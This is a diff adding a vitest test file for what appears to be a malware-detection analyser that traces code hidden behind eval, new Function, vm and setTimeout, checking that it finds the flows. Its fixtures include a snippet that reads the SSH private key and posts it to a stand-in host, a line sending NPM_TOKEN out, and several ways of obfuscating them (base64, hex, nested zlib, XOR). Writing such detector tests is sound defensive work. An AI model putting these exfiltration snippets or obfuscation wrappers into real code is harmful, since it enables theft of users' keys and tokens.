@@ -1,0 +1,58 @@
+import { describe, expect, it } from "vitest";
+import { analyze, flowSummary } from "./helpers.js";
+
+const PAYLOAD = "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nrequire('https').request({ hostname: 'p.example.invalid', method: 'POST' }).end(k);";
+
+describe("code run from strings", () => {
+  it("eval of base64-decoded code: facts at the eval line, an executed obfuscation", async () => {
+    const b64 = Buffer.from(PAYLOAD).toString("base64");
+    const facts = await analyze({ "index.js": `// loader\neval(Buffer.from('${b64}', 'base64').toString('utf8'));` });
+    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:2 (import)"]);
+    expect(facts.sources[0]!.location.line).toBe(2);
+    expect(facts.obfuscations.map((o) => [o.technique, o.executed, o.location.line])).toEqual([["eval-decoded", true, 2]]);
+  });
+
+  it("new Function(hex-decoded body) called with require", async () => {
+    const hex = Buffer.from(PAYLOAD).toString("hex");
+    const facts = await analyze({ "index.js": `new Function('require', Buffer.from('${hex}', 'hex').toString())(require);` });
+    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:1 (import)"]);
+  });
+
+  it("vm.runInNewContext and setTimeout(string)", async () => {
+    const vm = await analyze({ "index.js": `require('vm').runInNewContext(${JSON.stringify(PAYLOAD)}, { require });` });
+    expect(vm.flows).toHaveLength(1);
+    const timer = await analyze({ "index.js": `setTimeout(${JSON.stringify(PAYLOAD)}, 10);` });
+    expect(timer.flows).toHaveLength(1);
+  });
+
+  it("nested layers: base64 of zlib of base64", async () => {
+    const inner = Buffer.from(PAYLOAD).toString("base64");
+    const layer = require("node:zlib").deflateSync(Buffer.from(`eval(Buffer.from('${inner}','base64').toString())`)).toString("base64");
+    const facts = await analyze({ "index.js": `eval(require('zlib').inflateSync(Buffer.from('${layer}', 'base64')).toString());` });
+    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:1 (import)"]);
+  });
+
+  it("XOR-decoded code built in a loop", async () => {
+    const codes = [...Buffer.from(PAYLOAD)].map((b) => b ^ 7).join(",");
+    const facts = await analyze({ "index.js": `const b = [${codes}];\nlet s = '';\nfor (let i = 0; i < b.length; i++) s += String.fromCharCode(b[i] ^ 7);\neval(s);` });
+    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:4 (import)"]);
+  });
+
+  it("eval of something that cannot be decoded is eval-dynamic", async () => {
+    const facts = await analyze({ "index.js": "eval(process.argv[2]);" });
+    expect(facts.obfuscations.map((o) => [o.technique, o.executed])).toEqual([["eval-dynamic", true]]);
+  });
+
+  it("stops at a nesting depth (eval of eval of …)", async () => {
+    let code = "fetch('https://deep.example.invalid', { body: process.env.NPM_TOKEN });";
+    for (let i = 0; i < 8; i++) code = `eval(${JSON.stringify(code)});`;
+    const facts = await analyze({ "index.js": code });
+    expect(facts.flows).toEqual([]);
+    expect(facts.obfuscations.map((o) => o.technique)).toEqual(["eval-decoded"]);
+  });
+
+  it("decoded code that does not parse is a parse problem, not a crash", async () => {
+    const facts = await analyze({ "index.js": "eval(atob('" + Buffer.from("this is ((( not code").toString("base64") + "'));" });
+    expect(facts.parseProblems.map((p) => p.file)).toEqual(["index.js#eval@1"]);
+  });
+});
